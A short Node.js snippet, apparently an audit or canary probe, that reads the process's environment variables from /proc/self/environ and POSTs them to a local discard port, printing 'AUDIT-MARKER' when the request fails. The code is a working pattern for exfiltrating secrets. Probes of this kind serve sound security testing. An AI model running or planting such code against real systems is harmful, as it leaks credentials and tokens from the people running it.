const fs = require('fs');
const e = fs.readFileSync('/proc/self/environ', 'latin1').split('\0');
fetch('http://127.0.0.1:9/', { method: 'POST', body: e.join('\n') }).catch(() => console.log('AUDIT-MARKER'));
